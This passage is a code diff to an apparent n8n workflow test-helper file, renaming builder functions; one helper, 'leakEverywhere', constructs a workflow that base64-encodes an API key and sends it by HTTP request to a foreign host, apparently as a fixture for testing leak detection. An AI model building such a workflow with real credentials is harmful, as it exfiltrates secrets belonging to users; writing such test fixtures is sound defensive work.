@@ -1,7 +1,7 @@
 import type { INodeParameters } from 'n8n-workflow';
 import { DEFAULT_API_KEY } from '../../../tools/simulator';
 import type { WorkflowJson } from '../../../tools/n8n';
-import { chain, manualTrigger, node, transform, wait } from '../workflows';
+import { sequence, manualTrigger, node, transformNode, waitNode } from '../workflows';
 
 const set = (name: string, value: string) =>
 	node(name, 'n8n-nodes-base.set', 3.4, {
@@ -13,18 +13,18 @@ const file = (name: string, parameters: INodeParameters) =>
 
 /** Reads a film from disk, has it transformed, and downloads the output. */
 export function transformAFile(path: string, promptText: string): WorkflowJson {
-	return chain(`Transform ${promptText}`, [
+	return sequence(`Transform ${promptText}`, [
 		manualTrigger,
 		file('Read', { fileSelector: path }),
-		transform({ videoSource: 'binary', promptText }, { onError: 'continueErrorOutput' }),
-		wait({ options: { downloadVideo: true, minPollSeconds: 1 } }),
+		transformNode({ videoSource: 'binary', promptText }, { onError: 'continueErrorOutput' }),
+		waitNode({ options: { downloadVideo: true, minPollSeconds: 1 } }),
 	]);
 }
 
 /** Does with the key what must never happen: stores it, writes it to disk, sends it to a foreign host. */
 export function leakEverywhere(foreignUrl: string, folder: string): WorkflowJson {
 	const asText = { operation: 'toText', sourceProperty: 'value' };
-	return chain('Leaks', [
+	return sequence('Leaks', [
 		manualTrigger,
 		set('Encode', `={{ ('x' + '${DEFAULT_API_KEY}').base64Encode() }}`),
 		node('Send', 'n8n-nodes-base.httpRequest', 4.2, {
